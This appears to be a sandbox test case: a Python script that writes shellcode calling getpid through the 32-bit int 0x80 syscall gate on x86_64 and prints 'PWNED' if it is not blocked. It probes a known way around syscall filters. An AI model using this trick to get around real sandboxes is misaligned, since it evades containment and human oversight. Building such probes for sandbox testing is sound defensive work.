# /// attack
# category = "kernel-surface"
# kind = "stdio"
# success = "marker"
# expected = ["wrong_answer", "sandbox_violation", "runtime_error"]
# summary = "Enters the kernel by the 32-bit gate, where the numbers mean other calls."
# ///

import ctypes
import mmap
import os

if os.uname().machine == "x86_64":
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError as error:
        print("blocked", error)
    else:
        page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
        address = ctypes.addressof(ctypes.c_char.from_buffer(page))
        if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == os.getpid():
            print("PWNED")
